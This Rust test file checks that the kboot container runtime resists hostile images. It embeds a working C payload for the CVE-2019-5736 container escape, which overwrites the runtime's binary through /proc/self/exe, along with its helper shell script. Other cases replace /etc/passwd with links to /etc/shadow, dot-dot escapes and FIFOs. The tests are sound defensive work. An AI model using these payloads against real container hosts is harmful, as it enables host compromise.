//! Tier 3: images built to attack the host through kboot (issue 11). Each ends in a clear
//! error or a correct result within seconds, with kboot's memory bounded, and never
//! reads, writes or runs anything on the host outside the container.

use std::io::Read;

use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::common::{kboot_bin, require_root, run_ok, Dir};
use crate::containers_support::{busybox_rootfs, find, ps, sleepers_plan, wait_until, write_plan, Down};

fn guard(d: &Dir) -> Down<'_> {
    Down {
        dir: d,
        env: Vec::new(),
    }
}

fn sha256(path: &Path) -> String {
    let out = run_ok(Command::new("sha256sum").arg(path));
    String::from_utf8_lossy(&out.stdout)
        .split_whitespace()
        .next()
        .unwrap()
        .to_owned()
}

/// The shared libraries `bin` loads (its loader included), as `ldd` lists them.
fn shared_libraries(bin: &Path) -> Vec<PathBuf> {
    let out = run_ok(Command::new("ldd").arg(bin));
    String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter_map(|l| l.split_whitespace().find(|w| w.starts_with('/')).map(PathBuf::from))
        .collect()
}

/// The payload of CVE-2019-5736's published exploit, as a library the container's
/// `/etc/ld.so.preload` makes every dynamic program load: in a process whose
/// `/proc/self/exe` is the runtime's binary, it keeps an `O_PATH` handle on that binary,
/// lets the process exit (a running binary cannot be opened for writing), and from a
/// shell left behind in the container reopens the handle for writing and overwrites it.
/// `/report` says what happened.
const PAYLOAD: &str = r#"
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
__attribute__((constructor)) static void attack(void) {
    char exe[512] = {0};
    if (readlink("/proc/self/exe", exe, sizeof exe - 1) < 0) return;
    FILE *r = fopen("/report", "w");
    if (!r) return;
    fprintf(r, "exe=%s\n", exe);
    fclose(r);
    int fd = open("/proc/self/exe", O_PATH);
    if (fd < 0) return;
    if (fork() == 0) {
        dup2(fd, 3);
        setsid();
        execl("/bin/sh", "sh", "/writer.sh", (char *)0);
        _exit(1);
    }
    _exit(0);
}
"#;

/// Retries while the binary runs (ETXTBSY), then reports whether the write got through.
const WRITER: &str = r#"i=0
while [ $i -lt 100 ]; do
  if err=$( { printf PWNED 1<>/proc/self/fd/3; } 2>&1 ); then echo "write=ok" >>/report; exit 0; fi
  case "$err" in
    *busy*) sleep 0.1 ;;
    *) echo "write=refused: $err" >>/report; exit 0 ;;
  esac
  i=$((i+1))
done
echo "write=refused: still busy" >>/report
"#;

/// CVE-2019-5736's steps against `kboot exec`: the container replaces a program with
/// `#!/proc/self/exe`, so exec'ing it runs the binary that joined the container, with the
/// container's `/etc/ld.so.preload` loading the payload into it. kboot's exec runs from a
/// sealed copy (src/seal.rs), so the payload's write is refused and the binary on disk is
/// unchanged. `KBOOT_TEST_EXEC_BINARY=<path>` runs the exec from another build (one
/// without sealing shows the attack working: this test then fails).
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
fn hostile_exe_overwrite_through_kboot_exec_is_refused() {
    require_root();
    let d = Dir::new();
    let _down = guard(&d);
    let rootfs = busybox_rootfs(d.path());
    // What the binary needs to start inside the container: its loader and libraries.
    let exec_source = std::env::var_os("KBOOT_TEST_EXEC_BINARY").map_or_else(kboot_bin, PathBuf::from);
    for lib in shared_libraries(&exec_source) {
        let dst = rootfs.join(lib.strip_prefix("/").unwrap());
        std::fs::create_dir_all(dst.parent().unwrap()).unwrap();
        std::fs::copy(&lib, &dst).unwrap();
    }
    let src = d.path().join("payload.c");
    std::fs::write(&src, PAYLOAD).unwrap();
    run_ok(
        Command::new("cc")
            .args(["-shared", "-fPIC", "-o"])
            .arg(rootfs.join("lib/payload.so"))
            .arg(&src),
    );
    std::fs::write(rootfs.join("etc/ld.so.preload"), "/lib/payload.so\n").unwrap();
    std::fs::write(rootfs.join("writer.sh"), WRITER).unwrap();
    std::fs::write(rootfs.join("evil"), "#!/proc/self/exe\n").unwrap();
    std::fs::set_permissions(rootfs.join("evil"), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();

    let plan = sleepers_plan(&d, &rootfs, &["box"], r#"["/bin/sleep", "1000"]"#);
    run_ok(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
    assert!(wait_until(Duration::from_secs(10), || find(&ps(&mut d.kboot()), "box")
        ["status"]
        == "running"));

    // The exec runs from a copy of its own that nothing else runs, as a host's kboot is
    // between two commands: a write is then only refused by sealing, not by ETXTBSY.
    let exec_bin = d.path().join("exec-bin/kboot");
    std::fs::create_dir_all(exec_bin.parent().unwrap()).unwrap();
    std::fs::copy(&exec_source, &exec_bin).unwrap();
    let before = sha256(&exec_bin);
    let env = d.kboot();
    let out = Command::new(&exec_bin)
        .envs(env.get_envs().filter_map(|(k, v)| Some((k, v?))))
        .args(["exec", "box", "--", "/evil"])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let report = rootfs.join("report");
    assert!(
        wait_until(Duration::from_secs(20), || std::fs::read_to_string(&report)
            .is_ok_and(|r| r.contains("write="))),
        "the payload never reported (exec: {out:?}, report: {:?})",
        std::fs::read_to_string(&report)
    );
    let text = std::fs::read_to_string(&report).unwrap();
    assert!(
        text.starts_with("exe="),
        "the payload ran in the joining process: {text}"
    );
    assert!(
        !text.contains("write=ok"),
        "the container overwrote kboot's binary: {text}"
    );
    assert_eq!(sha256(&exec_bin), before, "the binary on disk changed: {text}");
}

/// The shim (whose clone is the container's init) runs from the supervisor's sealed copy:
/// its `/proc/<pid>/exe` cannot be opened for writing, from anywhere.
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
fn hostile_shim_exe_is_a_sealed_copy() {
    require_root();
    let d = Dir::new();
    let _down = guard(&d);
    let rootfs = busybox_rootfs(d.path());
    let plan = sleepers_plan(&d, &rootfs, &["box"], r#"["/bin/sleep", "1000"]"#);
    run_ok(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
    let shims = d.path().join("state/shims/box.json");
    assert!(wait_until(Duration::from_secs(10), || shims.exists()));
    let rec: serde_json::Value = serde_json::from_slice(&std::fs::read(&shims).unwrap()).unwrap();
    let shim = rec["shim_pid"].as_i64().unwrap();
    let exe = format!("/proc/{shim}/exe");
    let mut buf = [0u8; 4];
    std::fs::File::open(&exe).unwrap().read_exact(&mut buf).unwrap();
    assert_eq!(&buf, b"\x7fELF");
    let err = std::fs::OpenOptions::new().write(true).open(&exe).unwrap_err();
    assert_eq!(
        err.raw_os_error(),
        Some(libc::EROFS),
        "the shim's binary can be opened for writing: {err}"
    );
    assert_ne!(
        std::fs::read_link(&exe).unwrap(),
        kboot_bin(),
        "the shim runs the binary on disk"
    );
}

/// `kboot exec` (and the CRI's ExecSync: the same code, src/shim/exec.rs) reads the running
/// container's `/etc/passwd` for `HOME`, a file the container itself may replace at any time.
/// Replaced by a FIFO, a link to `/dev/zero` or a link to `/etc/shadow`, the exec still runs
/// within seconds, with kboot's memory bounded, and `HOME` falls back to `/`.
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
// The time and RSS of each case are printed for the record (`--nocapture`).
#[allow(clippy::print_stderr)]
fn hostile_passwd_made_by_the_running_container_does_not_stall_kboot_exec() {
    require_root();
    let shadow = host_shadow();
    let d = Dir::new();
    let _down = guard(&d);
    let rootfs = busybox_rootfs(d.path());
    let plan = sleepers_plan(&d, &rootfs, &["box"], r#"["/bin/sleep", "1000"]"#);
    run_ok(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
    assert!(wait_until(Duration::from_secs(10), || find(&ps(&mut d.kboot()), "box")
        ["status"]
        == "running"));
    let home = || run_bounded(d.kboot().args(["exec", "box", "--", "sh", "-c", "echo HOME=$HOME"]));
    let (status, text, _) = home();
    assert!(
        status.success() && text.contains("HOME=/root\n"),
        "the image's passwd: {text}"
    );
    for (name, make) in [
        ("a FIFO", "rm /etc/passwd && mkfifo /etc/passwd"),
        ("a link to /dev/zero", "ln -sf /dev/zero /etc/passwd"),
        ("a link to /etc/shadow", "ln -sf /etc/shadow /etc/passwd"),
    ] {
        run_ok(d.kboot().args(["exec", "box", "--", "sh", "-c", make]));
        let start = std::time::Instant::now();
        let (status, text, rss) = home();
        eprintln!(
            "passwd {name}: {:?}, exec peak RSS {rss} MB: {}",
            start.elapsed(),
            text.trim()
        );
        assert!(status.success() && text.contains("HOME=/\n"), "passwd {name}: {text}");
        assert!(rss < RSS_LIMIT_MB, "passwd {name}: RSS {rss} MB");
        assert_host_shadow_untouched(&shadow);
    }
}

/// Peak resident memory, in MB, kboot may use while reading a hostile image: the old code
/// grew without bound (3.7 GB in 10 s on a passwd linked to /dev/zero).
const RSS_LIMIT_MB: u64 = 200;
/// A hostile file must end in an error or a result within this.
const TIME_LIMIT: Duration = Duration::from_secs(30);

/// A passwd and group with one non-root user, for cases that attack another file.
fn users() -> Vec<rootfs_tools::Entry> {
    use rootfs_tools::Entry;
    vec![
        Entry::file(
            "etc/passwd",
            "root:x:0:0:root:/root:/bin/sh\nsomeone:x:1000:1000::/home:/bin/sh\n",
        ),
        Entry::file("etc/group", "root:x:0:\nstaff:x:50:someone\n"),
    ]
}

/// A hostile image: a second layer over the busybox one replaces files with `entries`.
struct Case {
    name: &'static str,
    entries: Vec<rootfs_tools::Entry>,
    /// The image's USER (and the plan's `user:`), if any.
    user: Option<&'static str>,
    command: &'static [&'static str],
    /// What the error says (`None`: the container runs).
    error: Option<&'static str>,
    /// What the CRI's error says, where it differs from `error`.
    cri_error: Option<&'static str>,
}

fn cases() -> Vec<Case> {
    use rootfs_tools::Entry;
    let sleep: &[&str] = &["/bin/sleep", "300"];
    let with_users = |more: Vec<Entry>| users().into_iter().chain(more).collect::<Vec<_>>();
    vec![
        Case {
            name: "passwd-link-to-dev-zero",
            entries: vec![Entry::symlink("etc/passwd", "/dev/zero")],
            user: Some("someone"),
            command: sleep,
            error: Some("user `someone` not found"),
            cri_error: None,
        },
        Case {
            name: "passwd-char-device-zero",
            entries: vec![Entry::char_device("etc/passwd", 1, 5)],
            user: Some("someone"),
            command: sleep,
            error: Some("/etc/passwd in the container root filesystem"),
            cri_error: None,
        },
        Case {
            name: "passwd-link-to-host-shadow",
            entries: vec![Entry::symlink("etc/passwd", "/etc/shadow")],
            user: Some("root"),
            command: sleep,
            error: Some("user `root` not found"),
            cri_error: None,
        },
        Case {
            name: "passwd-dot-dot-escape",
            entries: vec![Entry::symlink("etc/passwd", "../../../../../../../../etc/shadow")],
            user: Some("root"),
            command: sleep,
            error: Some("user `root` not found"),
            cri_error: None,
        },
        Case {
            name: "passwd-fifo",
            entries: vec![Entry::fifo("etc/passwd")],
            user: Some("someone"),
            command: sleep,
            error: Some("is a FIFO, not a regular file"),
            cri_error: None,
        },
        Case {
            name: "passwd-loop",
            entries: vec![
                Entry::symlink("etc/passwd", "/etc/passwd2"),
                Entry::symlink("etc/passwd2", "/etc/passwd"),
            ],
            user: Some("someone"),
            command: sleep,
            error: Some("cannot be resolved inside it"),
            cri_error: None,
        },
        Case {
            name: "passwd-directory",
            entries: vec![Entry::dir("etc/passwd")],
            user: Some("someone"),
            command: sleep,
            error: Some("is a directory, not a regular file"),
            cri_error: None,
        },
        Case {
            name: "passwd-huge",
            entries: vec![Entry::file("etc/passwd", vec![b'a'; 20 << 20])],
            user: Some("someone"),
            command: sleep,
            error: Some("larger than kboot reads for it"),
            cri_error: None,
        },
        Case {
            name: "group-char-device-zero",
            entries: with_users(vec![Entry::char_device("etc/group", 1, 5)]),
            user: Some("someone:staff"),
            command: sleep,
            error: Some("/etc/group in the container root filesystem"),
            cri_error: None,
        },
        Case {
            name: "entrypoint-link-to-dev-zero",
            entries: vec![Entry::symlink("bin/app", "/dev/zero")],
            user: None,
            command: &["/bin/app"],
            error: Some("entrypoint `/bin/app` not found"),
            cri_error: None,
        },
        Case {
            name: "entrypoint-link-to-host-binary",
            entries: vec![Entry::symlink("bin/app", "/usr/bin/sha256sum")],
            user: None,
            command: &["/bin/app"],
            error: Some("entrypoint `/bin/app` not found"),
            cri_error: None,
        },
        Case {
            name: "entrypoint-fifo",
            entries: vec![Entry::fifo("bin/app").mode(0o755)],
            user: None,
            command: &["/bin/app"],
            error: Some("entrypoint `/bin/app` not found"),
            cri_error: None,
        },
        Case {
            // The pod's resolv.conf is mounted over the image's: through the image's link,
            // inside the rootfs, never onto the host's file.
            name: "resolv-conf-link-to-host-shadow",
            entries: with_users(vec![Entry::symlink("etc/resolv.conf", "/etc/shadow")]),
            user: Some("someone"),
            command: sleep,
            error: None,
            // libcontainer 0.7 does not create a bind mount's target through a dangling
            // link (runc does): the container does not start, the host's file is untouched.
            cri_error: Some("failed to prepare rootfs"),
        },
    ]
}

fn load_case(d: &Dir, case: &Case) -> String {
    let reference = format!("kboot.test/hostile-{}:1", case.name);
    let entries = case.entries.clone();
    let (user, command) = (case.user, case.command);
    crate::containers_support::load_busybox_image(d, &reference, Vec::new(), move |b| {
        let b = b
            .layer(rootfs_tools::Layer::new().entries(entries))
            .cmd(command.iter().copied());
        match user {
            Some(u) => b.user(u),
            None => b,
        }
    });
    reference
}

/// Runs `cmd` to its end (killed and failed after [`TIME_LIMIT`]); returns its status,
/// combined output and peak RSS in MB. The RSS comes from GNU time, which forks a small
/// process: a child forked from this test process would count the test's own pages.
fn run_bounded(cmd: &mut Command) -> (std::process::ExitStatus, String, u64) {
    let out = tempfile::NamedTempFile::new().unwrap();
    let rss = tempfile::NamedTempFile::new().unwrap();
    let mut timed = Command::new("/usr/bin/time");
    timed
        .arg("-f")
        .arg("%M")
        .arg("-o")
        .arg(rss.path())
        .arg(cmd.get_program())
        .args(cmd.get_args());
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => timed.env(k, v),
            None => timed.env_remove(k),
        };
    }
    let mut child = timed
        .stdin(Stdio::null())
        .stdout(out.reopen().unwrap())
        .stderr(out.reopen().unwrap())
        .spawn()
        .expect("/usr/bin/time (Debian's time, scripts/install-deps.sh)");
    let deadline = std::time::Instant::now() + TIME_LIMIT;
    let status = loop {
        if let Some(status) = child.try_wait().unwrap() {
            break status;
        }
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            let _ = child.wait();
            panic!(
                "{cmd:?} still running after {TIME_LIMIT:?}: {}",
                std::fs::read_to_string(out.path()).unwrap_or_default()
            );
        }
        std::thread::sleep(Duration::from_millis(20));
    };
    let text = std::fs::read_to_string(out.path()).unwrap_or_default();
    let kb: u64 = std::fs::read_to_string(rss.path())
        .unwrap()
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .expect("GNU time's %M");
    (status, text, kb / 1024)
}

/// VmHWM (peak RSS) of a running process, in MB.
fn peak_rss_mb(pid: u32) -> u64 {
    let status = std::fs::read_to_string(format!("/proc/{pid}/status")).unwrap();
    let kb: u64 = status
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap();
    kb / 1024
}

fn host_shadow() -> (Vec<u8>, String) {
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    (std::fs::read("/etc/shadow").unwrap(), mountinfo)
}

fn assert_host_shadow_untouched(before: &(Vec<u8>, String)) {
    assert_eq!(
        std::fs::read("/etc/shadow").unwrap(),
        before.0,
        "the host's /etc/shadow changed"
    );
    let mountinfo = std::fs::read_to_string("/proc/self/mountinfo").unwrap();
    assert!(
        !mountinfo
            .lines()
            .any(|l| l.split_whitespace().nth(4) == Some("/etc/shadow")),
        "something is mounted over the host's /etc/shadow"
    );
}

/// Every hostile image through `kboot run -f`: a clear error naming the file (or the
/// container running, for what kboot does not read), within seconds, memory bounded.
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
// The time and RSS of each case are printed for the record (`--nocapture`).
#[allow(clippy::print_stderr)]
fn hostile_images_through_run_end_in_a_clear_error_with_bounded_memory() {
    require_root();
    let shadow = host_shadow();
    for case in cases() {
        let d = Dir::new();
        let _down = guard(&d);
        let reference = load_case(&d, &case);
        let user = case.user.map(|u| format!("    user: \"{u}\"\n")).unwrap_or_default();
        let plan = write_plan(&d, &format!("services:\n  box:\n    image: {reference}\n{user}"));
        let start = std::time::Instant::now();
        let (status, text, rss) = run_bounded(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
        let sup = std::fs::read_to_string(d.path().join("state/supervisor.pid"))
            .ok()
            .and_then(|p| p.trim().parse().ok())
            .map_or(0, peak_rss_mb);
        let listed =
            String::from_utf8_lossy(&d.kboot().args(["ps", "--format", "json"]).output().unwrap().stdout).into_owned();
        eprintln!(
            "{}: {:?}, run peak RSS {rss} MB, supervisor {sup} MB: {}",
            case.name,
            start.elapsed(),
            text.trim()
        );
        assert!(
            rss < RSS_LIMIT_MB && sup < RSS_LIMIT_MB,
            "{}: RSS {rss}/{sup} MB",
            case.name
        );
        match case.error {
            Some(error) => {
                assert!(!status.success(), "{}: run succeeded: {text}", case.name);
                assert!(
                    text.contains(error) || listed.contains(error),
                    "{}: no {error:?} in: {text}\n{listed}",
                    case.name
                );
            }
            None => {
                assert!(status.success(), "{}: {text}", case.name);
                assert_eq!(find(&ps(&mut d.kboot()), "box")["status"], "running", "{}", case.name);
            }
        }
        assert_host_shadow_untouched(&shadow);
    }
}

/// A 10 GB sparse `/etc/passwd` in a directory rootfs (`image: dir:`): refused from its
/// size, never read.
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
fn hostile_sparse_10g_passwd_is_refused_without_reading_it() {
    require_root();
    let d = Dir::new();
    let _down = guard(&d);
    let rootfs = busybox_rootfs(d.path());
    std::fs::remove_file(rootfs.join("etc/passwd")).unwrap();
    std::fs::File::create(rootfs.join("etc/passwd"))
        .unwrap()
        .set_len(10 << 30)
        .unwrap();
    let plan = write_plan(
        &d,
        &format!(
            "services:\n  box:\n    image: dir:{}\n    command: [\"/bin/sleep\", \"300\"]\n    user: someone\n",
            rootfs.display()
        ),
    );
    let (status, text, rss) = run_bounded(d.kboot().args(["run", "-d", "-f"]).arg(&plan));
    let listed =
        String::from_utf8_lossy(&d.kboot().args(["ps", "--format", "json"]).output().unwrap().stdout).into_owned();
    assert!(!status.success(), "{text}");
    assert!(rss < RSS_LIMIT_MB, "RSS {rss} MB");
    assert!(
        text.contains("larger than kboot reads for it") || listed.contains("larger than kboot reads for it"),
        "{text}\n{listed}"
    );
}

/// Every hostile image through the CRI (CreateContainer as the kubelet calls it): the
/// same clear errors, the server's memory bounded, the host's files untouched.
#[test]
#[ignore = "privileged: run as root with --include-ignored (scripts/test.sh)"]
// The time and RSS of each case are printed for the record (`--nocapture`).
#[allow(clippy::print_stderr)]
fn hostile_images_through_the_cri_end_in_a_clear_error_with_bounded_memory() {
    use kboot_cri::v1::{
        ContainerConfig, ContainerMetadata, CreateContainerRequest, ImageSpec, LinuxPodSandboxConfig,
        LinuxSandboxSecurityContext, NamespaceMode, NamespaceOption, PodSandboxConfig, PodSandboxMetadata,
        RemovePodSandboxRequest, RunPodSandboxRequest, StartContainerRequest,
    };
    require_root();
    let shadow = host_shadow();
    let d = Dir::new();
    // `kboot down` on the test's root, after the server stops: views of failed containers go.
    let _down = guard(&d);
    let cases = cases();
    let references: Vec<String> = cases.iter().map(|c| load_case(&d, c)).collect();
    let server = crate::cri_client::Server::start(&d, &[], &[]);
    let rt = tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap();
    let mut client = rt.block_on(server.runtime());
    let pod = PodSandboxConfig {
        metadata: Some(PodSandboxMetadata {
            name: "hostile".into(),
            uid: "hostile-uid".into(),
            namespace: "default".into(),
            attempt: 0,
        }),
        log_directory: d.path().join("logs").display().to_string(),
        linux: Some(LinuxPodSandboxConfig {
            security_context: Some(LinuxSandboxSecurityContext {
                // The host's namespaces: nothing (a PID holder, a pinned IPC namespace)
                // outlives a failed run of this test.
                namespace_options: Some(NamespaceOption {
                    network: NamespaceMode::Node as i32,
                    pid: NamespaceMode::Node as i32,
                    ipc: NamespaceMode::Node as i32,
                    ..Default::default()
                }),
                ..Default::default()
            }),
            ..Default::default()
        }),
        ..Default::default()
    };
    let pod_id = rt
        .block_on(client.run_pod_sandbox(RunPodSandboxRequest {
            config: Some(pod.clone()),
            runtime_handler: String::new(),
        }))
        .unwrap_or_else(|e| panic!("RunPodSandbox: {e}\n{}", server.log_text()))
        .into_inner()
        .pod_sandbox_id;
    for (case, reference) in cases.iter().zip(&references) {
        let config = ContainerConfig {
            metadata: Some(ContainerMetadata {
                name: case.name.into(),
                attempt: 0,
            }),
            image: Some(ImageSpec {
                image: reference.clone(),
                ..Default::default()
            }),
            log_path: format!("{}.log", case.name),
            ..Default::default()
        };
        let start = std::time::Instant::now();
        let created = rt.block_on(async {
            let id = client
                .create_container(CreateContainerRequest {
                    pod_sandbox_id: pod_id.clone(),
                    config: Some(config),
                    sandbox_config: Some(pod.clone()),
                })
                .await?
                .into_inner()
                .container_id;
            client.start_container(StartContainerRequest { container_id: id }).await
        });
        let rss = peak_rss_mb(server.pid());
        eprintln!(
            "{}: {:?}, server peak RSS {rss} MB: {created:?}",
            case.name,
            start.elapsed()
        );
        assert!(start.elapsed() < TIME_LIMIT, "{}", case.name);
        assert!(rss < RSS_LIMIT_MB, "{}: server RSS {rss} MB", case.name);
        match case.cri_error.or(case.error) {
            Some(error) => {
                let err = created.expect_err(case.name);
                assert!(err.message().contains(error), "{}: {}", case.name, err.message());
            }
            None => {
                created.unwrap_or_else(|e| panic!("{}: {e}\n{}", case.name, server.log_text()));
            }
        }
        assert_host_shadow_untouched(&shadow);
    }
    let _ = rt.block_on(client.remove_pod_sandbox(RemovePodSandboxRequest { pod_sandbox_id: pod_id }));
}
